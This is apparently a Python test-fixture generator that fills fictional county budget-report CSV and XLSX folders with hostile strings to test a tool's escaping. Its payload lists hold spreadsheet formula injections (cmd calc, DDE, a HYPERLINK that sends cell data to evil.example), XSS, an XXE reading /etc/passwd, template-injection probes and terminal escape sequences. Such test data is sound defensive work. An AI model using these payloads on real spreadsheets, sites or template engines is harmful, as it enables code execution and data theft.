"""会骗人、会起作用的文字，和一个每一栏都填着它们的县年度文件夹（全是虚构的）。"""

from __future__ import annotations

import csv
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import xlsxwriter

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")', '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")', '=IMPORTXML("http://evil.example","//a")', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u202e=1+1", "﹦1+1",
    "﹢1+1", "﹣1+1", "﹫SUM(1)", "\u2003=1+1", "-1", "=SUM(明细!A1:A9)", "{=1+1}",
)  # fmt: skip
PAGES = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "-->",
    "<svg onload=alert(1)>", "javascript:alert(1)", '<a href="javascript:alert(1)">甲</a>',
    '"><b onmouseover=alert(1)>',
    "' onfocus='alert(1)' autofocus='", "<iframe src=//evil.example></iframe>", "</title><h1>甲</h1>", "</style><p>甲",
    "<![CDATA[甲]]>", "&lt;script&gt;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "&#60;script&#62;",
    "\u2028alert(1)",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "]]>", "<w:p/>", "<f>1</f>",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% for i in range(10**9) %}甲{% endfor %}", "{% raw %}", "{# 甲 #}", "{{ ''.__class__.__mro__ }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(甲)s", "{0.__class__}", "{% include '/etc/passwd' %}", "%s%s%n",
)  # fmt: skip
SCREENS = (
    "[red]甲[/red]", "[/]", "[bold", "[link=http://evil.example]甲[/link]", ":smile:", "\x1b[31m甲\x1b[0m", "\x1b[2J甲",
    "\x1b]8;;http://evil.example\x1b\\甲\x1b]8;;\x1b\\", "\x1b]0;甲\x07", "\x9b31m甲", "_x001B_[31m甲", "_x0000_甲",
    "甲\u202e乙", "\u2066甲\u2069", "\u200f甲", "甲\x00乙", "甲\x08\x08乙", "甲\r乙", "甲\x85乙",
    "甲\u061c乙", "甲\U000e0041乙",
    "\ufeff甲", "甲\u180e乙",
)  # fmt: skip
MARKS = (
    "[甲](http://evil.example)", "![甲](http://evil.example/x.png)", "甲|乙|丙", "`甲`", "```", "# 甲", "## 甲", "- 甲",
    "1. 甲", "> 甲", "***", "---", "**甲**", "_甲_", "<http://evil.example>", "[甲]: http://evil.example",
    "~~甲~~", "    甲",
    "甲\n\n# 乙", "甲\n- 乙", "\\", "甲\\|乙", "=== ", "&amp;", "|---|---|", "<b>甲</b>", "1) 甲", "+ 甲",
    "$$甲$$", "[^1]",
)  # fmt: skip
TABLES = (
    '"甲"', '甲","乙', "甲,乙", "甲\n乙", "甲\r\n乙", "'甲", "''", '"', "甲;乙", "甲\t乙", "NULL", "nan",
    "#DIV/0!", "'=1+1",
    "&#0;", "甲&乙", "\ufffe甲", "\U0001f4a9", "e\u0301e\u0301", "\u200d甲", "甲" * 3000, "ﷺ" * 40,
)  # fmt: skip
CLASSES: Mapping[str, Sequence[str]] = {
    "公式": FORMULAS, "网页": PAGES, "模板": TEMPLATES, "终端": SCREENS, "标记": MARKS, "分隔": TABLES,
}  # fmt: skip

Line = list[str | int | float | None]


def tagged(texts: Sequence[str], at: str) -> list[str]:
    """每条文字末尾加上认得出的记号：标00甲、标01甲……"""
    return [f"{text}标{number:02d}{at}" for number, text in enumerate(texts)]


def year(folder: Path, texts: Sequence[str], *, suffix: str = ".csv") -> Path:
    """一个县年度文件夹：各种表的各个文字栏里都是 texts；.csv 或 .xlsx。"""
    folder.mkdir(parents=True, exist_ok=True)
    settings = f'[county]\nname = "{HOSTILE_COUNTY}"\nissuer = "虚构县财政局"\nyear = 2023\n[run]\non = 2023-12-31\n'
    (folder / "pbm.toml").write_text(settings, encoding="utf-8")
    for name, lines in sheets(texts).items():
        write = _write_csv if suffix == ".csv" else _write_xlsx
        write(folder / f"{name}{suffix}", lines)
    return folder


HOSTILE_COUNTY = "虚构县<script>{{7*7}}[red]</script>"


def sheets(texts: Sequence[str]) -> dict[str, list[Line]]:
    """各种表：表名 → 各行；甲是名称，乙是别的文字。"""
    triples = list(zip(range(1, len(texts) + 1), tagged(texts, "甲"), tagged(texts, "乙"), strict=True))

    def table(heads: str, row: Callable[[int, str, str], Line], unit: bool = True) -> list[Line]:
        return [["单位：万元"] if unit else [], [*heads.split()], *(row(n, a, b) for n, a, b in triples)]

    executed = table(
        "项目编码 项目名称 主管部门 预算单位 资金性质 年初预算数 调整后预算数 累计支出 偏差原因",
        lambda n, a, b: [f"P{n:04d}", a, b, b, b, 100, 100, 5 * (n % 20), b],
    )
    wrong: list[Line] = [[f"Q{n:04d}", a, b, b, b, 100, b, b, b] for n, a, b in triples]
    return {
        "执行": executed + wrong,
        "评估": table(
            "项目编码 项目名称 项目单位 申报金额 审定金额 评估得分 评估结论 评估机构",
            lambda n, a, b: [f"P{n:04d}", a, b, 100, 90, 85, b, b],
        ),
        "目标": table(
            "项目编码 项目名称 预算单位 预算金额 年度总体目标 编报阶段",
            lambda n, a, b: [f"P{n:04d}", a, b, 100, b, b],
        ),
        "指标": table(
            "项目编码 项目名称 预算单位 一级指标 二级指标 三级指标 指标值 度量单位 完成值 偏差原因",
            lambda n, a, b: [
                *(f"P{n:04d}", a, b, "产出指标", "数量指标", b),
                *(b if n % 2 else "≥10", b, b if n % 3 else "7", b),
            ],
        ),
        "意见": table(
            "项目编码 项目名称 单位名称 修改意见 审核结论", lambda n, a, b: [f"P{n:04d}", a, b, b, b], unit=False
        ),
        "台账": table(
            "项目编码 项目名称 预算单位 监控方式 调整前预算 调整后预算 处置措施 原因",
            lambda n, a, b: [f"P{n:04d}", a, b, b, 100, 90, b, b],
        ),
        "评价": table(
            "评价对象 对象类型 评价层次 预算单位 四本预算 涉及金额 评价得分 评价等级 评价机构",
            lambda n, a, b: [a, "项目", "财政重点评价", b, b, 100, 85, b, b],
        ),
        "登记": table("预算单位 主管部门 报送日期 公开日期", lambda n, a, b: [a, b, "2023-07-01", b], unit=False),
        "培训": table("培训名称 培训时间 期数 人次", lambda n, a, b: [a, b, 1, 20], unit=False),
        "文件": table("文件名称 文号 印发日期", lambda n, a, b: [a, b, "2023-01-02"], unit=False),
    }


def _write_csv(path: Path, lines: list[Line]) -> None:
    with path.open("w", encoding="utf-8-sig", errors="surrogatepass", newline="") as stream:
        csv.writer(stream).writerows(lines)


def _write_xlsx(path: Path, lines: list[Line]) -> None:
    with xlsxwriter.Workbook(str(path), {"strings_to_urls": False}) as book:
        page = book.add_worksheet("表")
        for row, line in enumerate(lines):
            for column, value in enumerate(line):
                if isinstance(value, str):
                    page.write_string(row, column, value.replace("\ufffe", ""))
                elif value is not None:
                    page.write_number(row, column, value)
